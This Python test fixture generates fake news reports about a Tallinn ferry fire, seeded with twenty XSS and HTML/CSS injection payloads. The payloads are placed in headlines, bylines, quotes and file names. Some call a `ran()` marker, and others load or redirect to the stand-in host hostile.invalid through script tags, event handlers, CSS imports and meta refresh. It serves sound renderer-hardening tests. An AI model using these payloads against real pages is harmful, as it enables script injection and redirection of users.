"""Twenty reports that try to run something in the page that shows them: in headlines, outlets, authors, names of files, quotations and texts, as
plain text and as web pages. Each calls `ran()` or asks for http://hostile.invalid/ where it gets through. Used by tests/browser_test.py.
"""
import html

PAYLOADS = [
    '<script>ran()</script>',
    '</style></title></head><script>ran()</script>',
    '<img src=x onerror=ran()>',
    '<svg onload=ran()><a xlink:href="javascript:ran()"><text>go</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
    '<a href="javascript:ran()">go</a>',
    '" onmouseover="ran()" autofocus onfocus="ran()" x="',
    "' onclick='ran()' style='background:url(http://hostile.invalid/a)",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    '<link rel=stylesheet href=http://hostile.invalid/b.css><style>@import url(http://hostile.invalid/c.css);</style>',
    '<style>*{display:none!important}body::after{content:"ran"}</style>',
    '}body{background:url(http://hostile.invalid/d)}.x{',
    '<base href=http://hostile.invalid/><form action=http://hostile.invalid/><button>go</button></form>',
    '<meta http-equiv=refresh content="0;url=http://hostile.invalid/e">',
    '<details open ontoggle=ran()><summary>go</summary></details><video><source onerror=ran()></video>',
    '<!-- --!> <script>ran()</script> <![CDATA[ <script>ran()</script> ]]>',
    '\u202e>tpircs/<)(nar>tpircs<\u202c \u2066\u2067 <script>ran()</script>',
    '&lt;script&gt;ran()&lt;/script&gt; &#60;script&#62;ran()&#60;/script&#62; &quot; onload=ran()',
    '\ufeff\u200b<scr\u00adipt>ran()</scr\u00adipt>\x00<script\x00>ran()</script>\x1b]8;;javascript:ran()\x07',
    '<template><script>ran()</script></template><object data="javascript:ran()"></object><embed src=http://hostile.invalid/f>',
]

TEXT = '''{payload} in the harbour of Tallinn

26 August 2016 14:0{digit}

TALLINN, Aug 26 ({payload}) - A fire in the harbour of Tallinn killed {dead} people on 26 August 2016, {payload} said.

"The fire {payload} began on the ferry Linda at noon", said Mara Ilves of {payload}.

The ferry Linda carried {carried} passengers and {payload}.

Related: {payload}
'''

PAGE = '''<!DOCTYPE html><html><head><title>{payload}</title><meta property="og:site_name" content="{payload}"><meta name="author" content="{payload}">
<meta property="article:published_time" content="2016-08-26T14:0{digit}:00Z"></head><body><article><h1>{payload}</h1>
<p>A fire in the harbour of Tallinn killed {dead} people on 26 August 2016, {payload} said.</p>
<p>"The fire {payload} began on the ferry Linda at noon", said Mara Ilves of {payload}.</p>
<p>The ferry Linda carried {carried} passengers and {payload}.</p></article></body></html>
'''


def write_reports(folder):
    """Writes the reports and gives how many. Every second one is a web page; the names of some files are hostile too; one is no valid UTF-8."""
    for i, payload in enumerate(PAYLOADS):
        values = {'digit': i % 10, 'dead': 12 + i % 3, 'carried': 480 + i % 2}
        name = '%02d %s' % (i, payload.replace('/', '').replace('\x00', '')[:60].strip())
        if i % 2:
            text, name = PAGE.format(payload=html.escape(payload), **values).encode(), name + '.html'
        else:
            text, name = TEXT.format(payload=payload.replace('\x00', ''), **values).encode(), name + '.txt'
        if i == 4:
            text += b'\xff\xfe<script>ran()</script>\xc3\xed\xa0\x80'
        (folder / name).write_bytes(text)
    return len(PAYLOADS)
